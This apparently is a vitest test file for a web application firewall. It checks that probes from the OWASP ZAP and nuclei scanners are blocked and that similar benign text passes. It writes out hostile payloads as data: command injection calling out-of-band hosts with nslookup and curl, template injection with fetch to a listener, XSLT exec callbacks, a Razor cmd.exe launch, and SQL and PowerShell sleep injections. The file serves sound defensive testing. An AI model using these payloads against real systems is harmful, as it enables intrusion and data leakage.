/**
 * What two DAST scanners send, held out until the tenth session: OWASP ZAP's active scan rules
 * (code injection, XSLT, Hypersonic timing, template injection) and nuclei's DAST templates
 * (command injection to out-of-band hosts, PowerShell and SQL appended to a User-Agent, template
 * out-of-band probes, Razor). Each payload is blocked where the tool puts it; the ordinary text
 * that looks nearest to each new rule passes.
 */
import { describe, expect, it } from "vitest";
import { BROWSER, evaluate } from "./waf-requests.ts";

const query = (value: string) => evaluate({ url: `https://edge.test/search?id=${encodeURIComponent(value)}` });
const form = (value: string) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/items",
    body: `name=test&id=${encodeURIComponent(value)}`,
    headers: { "content-type": "application/x-www-form-urlencoded" },
  });
const json = (value: string) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/v1/notes",
    body: JSON.stringify({ text: value }),
    headers: { "content-type": "application/json" },
  });
const userAgent = (value: string) =>
  evaluate({ url: "https://edge.test/search?id=1", headers: { "user-agent": value } });
const header = (value: string) =>
  evaluate({ url: "https://edge.test/search?id=1", headers: { "x-client-info": value } });

const OAST = "c59def6kdc9abcd.oast.fun";

/** [payload, the rule that names it] */
const IN_PARAMETERS: ReadonlyArray<readonly [string, string]> = [
  // ZAP code injection: PHP spelling its marker character by character.
  [";print(chr(122).chr(97).chr(112).chr(95).chr(116).chr(111).chr(107).chr(101).chr(110));", "php-chr-chain"],
  ["${@print(chr(122).chr(97).chr(112).chr(95).chr(116).chr(111).chr(107).chr(101).chr(110))}\\", "php-chr-chain"],
  // ZAP XSLT injection: a remote document read, PHP's callbacks (in a form field too).
  ["<xsl:value-of select=\"document('http://edge.example:22')\"/>", "xxe-xslt-injection"],
  ["<xsl:value-of select=\"php:function('exec','erroneous_command 2>&amp;1')\"/>", "xxe-xslt-injection"],
  // ZAP Hypersonic (HSQLDB) timing: a Java method called from SQL by its quoted name.
  ['"java.lang.Thread.sleep"(5000)', "java-sql-routine"],
  ["1' / \"java.lang.Thread.sleep\"(5000) / '", "java-sql-routine"],
  // ZAP and nuclei template probes: single braces, helpers and filters that compute, Go's print.
  ["zj{2614*1450}zj", "template-expression-probe"],
  ['"}zj{#2614*1450}zj', "template-expression-probe"],
  ["zj{@2614*1450}zj", "template-expression-probe"],
  ["{4821*7353}", "template-expression-probe"],
  ['zj{@math key="2614" method="multiply" operand="1450"/}zj', "template-expression-probe"],
  ['{math equation="7*7"}', "template-expression-probe"],
  ["{{request.META}}", "template-expression"],
  // nuclei's engine fingerprints: an expression between digits glued to it.
  ['4821{{"7353"}}2916', "template-expression-probe"],
  ['4821<%"XXXXXXX"%>7353', "template-expression-probe"],
  ["4821[[${session}]]7353", "template-expression-probe"],
  // nuclei's out-of-band template probes: a function defined and called, a fetch to the listener.
  [`{{=function(){ fetch("http://${OAST}",{headers:{a:1}}) }()}}`, "template-object-access"],
  [`<%=function(){fetch("http://${OAST}",{method:"POST"})}()%>`, "template-object-access"],
  [`#{function(){ fetch("http://${OAST}") }()}`, "template-object-access"],
  // nuclei's Razor probe: .NET starting a process.
  [
    '@{string x=null;int[]l={105,100};foreach(int c in l){x+=((char)c).ToString();};}@System.Diagnostics.Process.Start("cmd.exe", "/c "+x)',
    "template-code-injection",
  ],
  // nuclei command injection: a `#` glued to the delay, lookups of the scanner's listener.
  ["|sleep 5#", "command-injection"],
  [`&nslookup ${OAST}&'\\"\`0&nslookup ${OAST}&\`'`, "command-injection"],
  [
    `1;nslookup\${IFS}${OAST};#\${IFS}';nslookup\${IFS}${OAST};#\${IFS}";nslookup\${IFS}${OAST};#\${IFS}`,
    "command-injection",
  ],
  [`|nslookup ${OAST}|curl ${OAST}`, "command-injection"],
  ["1;ping -c 1 x7.interact.sh", "command-injection"],
];

/**
 * In a parameter only: a form's fields are body values, where the same text may be a stylesheet's
 * or a template's own (`contains(system-property('xsl:vendor'), 'SAXON')`, `{{ 1 | plus:1 }}`).
 */
const IN_QUERY: ReadonlyArray<readonly [string, string]> = [
  ["<xsl:value-of select=\"system-property('xsl:vendor')\"/>", "xxe-xslt-injection"],
  ["system-property('xsl:vendor')/>", "xxe-xslt-injection"],
  ['"/><xsl:value-of select="system-property(\'xsl:version\')"/><!--', "xxe-xslt-injection"],
  ["zj{{26140|add:14500}}zj", "template-expression-probe"],
  ["{{7 | times: 7}}", "template-expression-probe"],
  ['zj{{print "2614" "1450"}}zj', "template-expression-probe"],
];

/** Appended to a browser's User-Agent (or another header's value), as nuclei's header fuzzing does. */
const APPENDED: ReadonlyArray<readonly [string, string]> = [
  [";start-sleep -s 5", "command-time-delay"],
  ['";start-sleep -s 5 #', "command-time-delay"],
  ["';start-sleep -s 5", "command-time-delay"],
  ["' where 0 in (select sleep(5) ) -- ", "sqli"],
  ["' case when cast(pg_sleep(5) as varchar) > '' then 0 else 1 end --", "sqli"],
  ['" where 0 in (select sleep(5) ) -- ', "sqli"],
];

const BENIGN: readonly string[] = [
  // PHP and templates as people write them.
  "$crlf = chr(13).chr(10);",
  "{{ price|add:tax }}",
  "{{ total | times: quantity }}",
  '{{ .Title | printf "%s" }}',
  "Set x^{2*3} and a_{12*4} in LaTeX",
  "The set {1, 2, 3} has 3 elements; {2*3} is a product in set notation",
  "{{ request.user.name }}",
  // Network tools with ordinary hosts, and listeners named in prose.
  "Run nslookup example.com to check DNS",
  "ping -c 4 example.org",
  "dig +short example.com; host example.net",
  "Burp Collaborator and interact.sh are used for out-of-band testing",
  // Java and XSLT named in text.
  "Use java.lang.Thread.sleep(5000) in the test",
  "Call Thread.sleep(5000) to wait five seconds",
  "XSLT's system-property function reports the vendor",
  // A changelog naming XSLT elements (entity-encoded, as HTML changelogs are).
  "  Don't pass first &lt;xsl:sort&gt; in &lt;xsl:apply-templates&gt; twice<br />",
  "Order 1234{{name}} ok",
  // Found by the review: C# starting programs, XSLT in a search, LaTeX, HSQLDB's own routines, JS template literals.
  'How do I run Process.Start("cmd.exe", "/c dir") and capture the output in C#?',
  'Process.Start("shutdown", "/r /t 0");',
  'how to <xsl:for-each select="catalog/cd"> not working',
  "\\sqrt{6*23}cm",
  'CALL "java.lang.Math.sqrt"(15)',
  "sleep 5#wait",
  // Code that packs bytes with chr(), template documentation with variables.
  "$packed = chr(127) . chr(0) . chr(0) . chr(1);",
  'The number of pixels is: {math equation="x * y" x=$height y=$width}.',
  '{@math key=x method="add" operand=y/}',
];

/** Template and stylesheet text in a body (JSON or a form): documentation and code, not probes. */
const BENIGN_IN_BODY: readonly string[] = [
  '{{ print "foo" "bar" }} → foobar',
  "{{ 1 | plus:1 }}",
  "        Dim process = System.Diagnostics.Process.Start(processInfo)",
  "const year = `${(function(){ return new Date().getFullYear(); })()}`;",
  "const body = `${await fetch('https://example.com/api/items').then((r) => r.text())}`;",
  "<xsl:when test=\"contains(system-property('xsl:vendor'), 'SAXON')\">",
  '<xsl:value-of select="catalog/title"/>',
];

describe("DAST scanner probes (OWASP ZAP, nuclei)", () => {
  it.each(IN_PARAMETERS)("blocks %j in a query value and a form value", (payload, rule) => {
    expect(query(payload), `query ${payload}`).toMatchObject({ action: "block", ruleId: rule });
    expect(form(payload).action, `form ${payload}`).toBe("block");
  });

  it.each(IN_QUERY)("blocks %j in a query value", (payload, rule) => {
    expect(query(payload)).toMatchObject({ action: "block", ruleId: rule });
  });

  it.each(APPENDED)("blocks %j appended to a User-Agent and to a custom header", (payload, rule) => {
    const ua = userAgent(BROWSER + payload);
    expect(ua.action, `user-agent ${payload}`).toBe("block");
    expect(ua.ruleId, payload).toMatch(new RegExp(`^${rule}`));
    expect(header(`client=web; version=5.12.4; build=2026.12.06-rc1; platform=linux-x64${payload}`).action).toBe(
      "block",
    );
  });

  it("reads XSLT markup as text, and its PHP callbacks as an attack", () => {
    const sheet =
      '<xsl:template match="/"><h1><xsl:value-of select="catalog/title"/></h1><xsl:for-each select="catalog/cd"><p><xsl:value-of select="artist"/></p></xsl:for-each></xsl:template>';
    expect(json(sheet).action).toBe("allow");
    expect(query(sheet).action).toBe("allow");
    expect(json(`${sheet}<xsl:value-of select="php:function('system','id')"/>`)).toMatchObject({
      action: "block",
      ruleId: "xxe-xslt-injection",
    });
  });

  it.each(BENIGN)("lets %j through (query and JSON)", (text) => {
    expect(query(text).action, `query ${text}`).toBe("allow");
    expect(json(text).action, `json ${text}`).toBe("allow");
  });

  it.each(BENIGN_IN_BODY)("lets %j through in a JSON body", (text) => {
    expect(json(text).action).toBe("allow");
  });

  it("lets ordinary User-Agents and header values with quotes through", () => {
    for (const ua of [
      BROWSER,
      'Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240805.005; wv) AppleWebKit/537.36 (KHTML, like Gecko) "Example App"/3.2',
      "MyApp/2.1 (iPhone; iOS 18.1; Scale/3.00) Alamofire/5.9.1 'beta' channel; start-date 2026-12-01",
      "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.com/about; contact 'ops@example.com')",
    ])
      expect(userAgent(ua).action, ua).toBe("allow");
    for (const value of [
      "sdk=js; version=5.12.4; build=2026.12.06-rc1; platform=linux-x64; name=\"O'Brien's shop\"",
      'form-data; name="file"; filename="Quarterly report (final) - where we stand.pdf"',
    ])
      expect(header(value).action, value).toBe("allow");
  });
});
